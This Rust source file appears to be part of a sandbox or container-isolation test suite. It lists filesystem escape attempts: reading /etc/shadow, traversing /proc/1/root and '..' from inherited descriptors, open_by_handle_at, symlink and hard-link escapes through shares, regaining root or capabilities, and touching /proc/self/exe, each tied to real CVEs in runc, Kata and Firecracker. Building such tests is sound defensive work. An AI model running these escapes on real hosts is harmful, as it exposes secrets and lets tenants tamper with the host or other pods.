//! Files of the host's and of other pods.

use super::{Actor, Attack, Attempt, Class, DESCRIPTORS, Effect, attack};
use crate::call::{Result, append, open, read, write};
use crate::{call, path};

const F: Class = Class::Files;

pub(super) const LIST: &[Attack] = &[
    attack("shadow_opened", F, Effect::Content("/etc/shadow"), "open /etc/shadow", |it| {
        it.take_file(c"/etc/shadow")
    }),
    attack("secret_opened", F, Effect::Secret, "open a file of root's by its name", |it| {
        it.take_file(it.text("secret"))
    }),
    attack(
        "file_written",
        F,
        Effect::Written("shared"),
        "write to a file that all may write",
        |it| append(it.text("shared"), it.name.as_bytes()),
    ),
    attack("file_created", F, Effect::Left("open"), "make a file where all may", create),
    attack("file_removed", F, Effect::Gone("doomed"), "remove a file where all may", |it| {
        call!(SYS_unlinkat, libc::AT_FDCWD, it.text("doomed"), 0).map(drop)
    }),
    attack("setuid_program_made", F, Effect::Left("open"), "leave a set-user-ID program", setuid),
    attack("through_own_root", F, Effect::Secret, "/proc/self/root and the name", |it| {
        through(it, "/proc/self/root")
    }),
    attack("through_root_of_init", F, Effect::Secret, "/proc/1/root and the name", |it| {
        through(it, "/proc/1/root")
    }),
    attack("through_directory_of_init", F, Effect::Secret, "/proc/1/cwd and the name", |it| {
        through(it, "/proc/1/cwd/../../../..")
    }),
    attack("upwards_from_here", F, Effect::Secret, "many times '..' and the name", |it| {
        through(it, "../../../../../../../..")
    }),
    attack(
        "upwards_from_descriptors",
        F,
        Effect::Secret,
        "many times '..' from every descriptor (CVE-2024-21626 of runc)",
        upwards,
    ),
    attack(
        "by_handle",
        F,
        Effect::Secret,
        "open_by_handle_at from every descriptor (shocker)",
        by_handle,
    ),
    attack(
        "by_symbolic_link",
        F,
        Effect::Secret,
        "a symbolic link to the file, followed (CVE-2026-1386 of Firecracker)",
        |it| {
            let link = path!("{}/{}", it.str("open"), it.name);
            let _ = call!(SYS_unlinkat, libc::AT_FDCWD, &link, 0);
            call!(SYS_symlinkat, it.text("secret"), libc::AT_FDCWD, &link)?;
            it.take_file(link.as_c_str())
        },
    ),
    attack(
        "by_symbolic_link_in_share",
        F,
        Effect::Secret,
        "a symbolic link in a share, followed (CVE-2026-47243 of Kata's virtiofsd)",
        |it| {
            let link = path!("{}/{}", it.str("share"), it.name);
            let _ = call!(SYS_unlinkat, libc::AT_FDCWD, &link, 0);
            call!(SYS_symlinkat, it.text("secret"), libc::AT_FDCWD, &link)?;
            it.take_file(link.as_c_str())
        },
    )
    .only(Actor::Worker),
    attack(
        "name_with_slashes_in_share",
        F,
        Effect::Secret,
        "a name with '..' and '/' given to openat of a share (libkrun 329)",
        |it| {
            let share = open(it.text("share"), libc::O_PATH | libc::O_DIRECTORY)?;
            it.take_file_at(share, path!("../../../..{}", it.str("secret")).as_c_str())
        },
    )
    .only(Actor::Worker),
    attack(
        "moved_out_of_share",
        F,
        Effect::Left("open"),
        "rename from a share to elsewhere",
        |it| {
            // In the host's mount namespace the share has its own name.
            let from = match open(it.text("share_path"), libc::O_PATH) {
                Ok(_) => path!("{}/{}", it.str("share_path"), it.name),
                Err(_) => path!("{}/{}", it.str("share"), it.name),
            };
            open(from.as_c_str(), libc::O_CREAT | libc::O_WRONLY)?;
            let to = path!("{}/{}", it.str("open"), it.name);
            call!(SYS_renameat2, libc::AT_FDCWD, &from, libc::AT_FDCWD, &to, 0).map(drop)
        },
    )
    .only(Actor::Worker),
    attack("linked_into_share", F, Effect::Secret, "a hard link in a share to the file", |it| {
        let link = match open(it.text("share_path"), libc::O_PATH) {
            Ok(_) => path!("{}/{}", it.str("share_path"), it.name),
            Err(_) => path!("{}/{}", it.str("share"), it.name),
        };
        let _ = call!(SYS_unlinkat, libc::AT_FDCWD, &link, 0);
        call!(SYS_linkat, libc::AT_FDCWD, it.text("secret"), libc::AT_FDCWD, &link, 0)?;
        it.take_file(link.as_c_str())
    })
    .only(Actor::Worker),
    attack("hard_link_made", F, Effect::Left("open"), "a hard link to the file", |it| {
        let link = path!("{}/{}", it.str("open"), it.name);
        call!(SYS_linkat, libc::AT_FDCWD, it.text("secret"), libc::AT_FDCWD, &link, 0).map(drop)
    }),
    attack("as_root_again", F, Effect::Secret, "setresuid to root, then open the file", |it| {
        call!(SYS_setresgid, 0, 0, 0)?;
        call!(SYS_setresuid, 0, 0, 0)?;
        it.take_file(it.text("secret"))
    }),
    attack("with_capabilities_again", F, Effect::Secret, "capset, then open the file", |it| {
        let header = [0x2008_0522_u32, 0];
        let mut sets = [0_u32; 6];
        call!(SYS_capget, &header[..], &mut sets[..])?;
        let all = [u32::MAX, u32::MAX, 0, 0x1ff, 0x1ff, 0];
        call!(SYS_capset, &header[..], &all[..])?;
        it.take_file(it.text("secret"))
    }),
    attack(
        "own_program_touched",
        F,
        Effect::Touched("/usr/libexec/sandbox/{program}"),
        "change the running program through /proc/self/exe (CVE-2019-5736 of runc)",
        |_| {
            let times = [libc::timespec { tv_sec: 1, tv_nsec: 0 }; 2];
            call!(SYS_utimensat, libc::AT_FDCWD, c"/proc/self/exe", read(&times), 0).map(drop)
        },
    ),
    attack(
        "programs_replaced",
        F,
        Effect::Left("programs"),
        "put a program where the host's are (CVE-2019-5736, by name)",
        |it| {
            let file = path!("{}/{}", it.str("programs"), it.name);
            open(file.as_c_str(), libc::O_CREAT | libc::O_WRONLY).map(drop)
        },
    ),
    attack(
        "image_written",
        F,
        Effect::Touched("{image}"),
        "reopen the image's read-only disk for writing (CVE-2026-24834 of Kata)",
        image_written,
    )
    .only(Actor::Monitor),
    attack(
        "image_named_and_written",
        F,
        Effect::Touched("{image}"),
        "write to an image that another pod runs, by its name",
        |it| touch_content(open(it.text("image"), libc::O_RDWR)?),
    ),
    attack("console_of_other_pod_read", F, Effect::Secret, "read another pod's console", |it| {
        it.take_file(it.text("victim_console"))
    }),
    attack(
        "console_of_other_pod_written",
        F,
        Effect::Written("victim_console"),
        "write to another pod's console",
        |it| append(it.text("victim_console"), it.name.as_bytes()),
    ),
    attack(
        "directory_of_other_pod_changed",
        F,
        Effect::Left("victim_directory"),
        "make a file in another pod's directory",
        |it| {
            let file = path!("{}/{}", it.str("victim_directory"), it.name);
            open(file.as_c_str(), libc::O_CREAT | libc::O_WRONLY).map(drop)
        },
    ),
    attack(
        "disk_of_other_pod_read",
        F,
        Effect::Secret,
        "read another pod's scratch disk through /proc/PID/fd",
        |it| {
            let disk = open(it.text("victim_disk"), libc::O_RDONLY)?;
            it.take_at(disk, 64, it.number("victim_disk_offset"))
        },
    ),
    attack("volume_of_other_pod_read", F, Effect::Secret, "read another pod's volume", |it| {
        it.take_file(it.text("victim_volume_file"))
    }),
    attack(
        "volume_of_other_pod_written",
        F,
        Effect::Written("victim_volume_file"),
        "write to another pod's volume",
        |it| append(it.text("victim_volume_file"), it.name.as_bytes()),
    ),
];

fn create(it: &mut Attempt<'_>) -> Result {
    let file = path!("{}/{}", it.str("open"), it.name);
    open(file.as_c_str(), libc::O_CREAT | libc::O_WRONLY).map(drop)
}

fn setuid(it: &mut Attempt<'_>) -> Result {
    let path = path!("{}/{}", it.str("open"), it.name);
    let file = open(path.as_c_str(), libc::O_CREAT | libc::O_WRONLY)?;
    write(file, b"#!/bin/sh\n")?;
    call!(SYS_fchmod, file, 0o4755).map(drop)
}

fn through(it: &mut Attempt<'_>, start: &str) -> Result {
    it.take_file(path!("{start}{}", it.str("secret")).as_c_str())
}

/// From each descriptor that may be a directory; the file server's `/proc/self/fd` is one.
fn upwards(it: &mut Attempt<'_>) -> Result {
    let ways = [
        path!("../../../../../../../..{}", it.str("secret")),
        path!("../../1/root{}", it.str("secret")),
        path!("../root{}", it.str("secret")),
    ];
    first(DESCRIPTORS, |descriptor| first(&ways, |way| it.take_file_at(descriptor, way.as_c_str())))
}

/// A handle names a file of a file system, wherever the descriptor for it leads.
fn by_handle(it: &mut Attempt<'_>) -> Result {
    let mut handle = [0_u8; 136];
    if it.targets.bytes("handle", &mut handle) < 8 {
        return Err(libc::ESRCH);
    }
    let _ = open(c".", libc::O_RDONLY | libc::O_DIRECTORY);
    first(DESCRIPTORS, |descriptor| {
        let file = call!(SYS_open_by_handle_at, descriptor, &handle[..], libc::O_RDONLY)?;
        it.take(file as i32)
    })
}

/// Tries every descriptor that is a file for reading.
fn image_written(_: &mut Attempt<'_>) -> Result {
    let mut why = Err(libc::ENOENT);
    for descriptor in DESCRIPTORS {
        let flags = call!(SYS_fcntl, descriptor, libc::F_GETFL).unwrap_or(1) as i32;
        if flags & libc::O_ACCMODE != libc::O_RDONLY {
            continue;
        }
        let file = open(path!("/proc/self/fd/{descriptor}").as_c_str(), libc::O_RDWR);
        let result = file.and_then(touch_content);
        // One is the image; which of them, is of no interest.
        why = why.or(result);
    }
    why
}

/// Writes what is there already: for the file that is a change, for who uses it none.
fn touch_content(file: i32) -> Result {
    let mut byte = [0_u8; 1];
    call!(SYS_pread64, file, &mut byte[..], 1, 0)?;
    call!(SYS_pwrite64, file, &byte[..], 1, 0).map(drop)
}

/// The first that succeeds, or why the last did not.
pub(super) fn first<T>(
    candidates: impl IntoIterator<Item = T>,
    mut attempt: impl FnMut(T) -> Result,
) -> Result {
    let mut why = libc::ENOENT;
    for candidate in candidates {
        match attempt(candidate) {
            Ok(()) => return Ok(()),
            // That there is no such descriptor tells nothing.
            Err(libc::EBADF) => {}
            Err(error) => why = error,
        }
    }
    Err(why)
}
